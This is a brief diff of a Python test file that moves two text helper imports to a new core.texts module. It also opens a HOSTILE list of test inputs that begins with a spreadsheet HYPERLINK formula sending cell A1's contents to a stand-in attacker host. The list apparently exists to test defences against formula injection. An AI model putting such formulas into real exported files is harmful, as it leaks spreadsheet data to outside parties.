@@ -21,9 +21,10 @@ from core.session import (
     load_session,
     sidecar_path,
 )
-from core.session_format import guarded, one_line, unguarded, without_secrets
+from core.session_format import guarded, unguarded
 from core.settings import Settings
 from core.sources import SourceInfo
+from core.texts import one_line, without_secrets
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
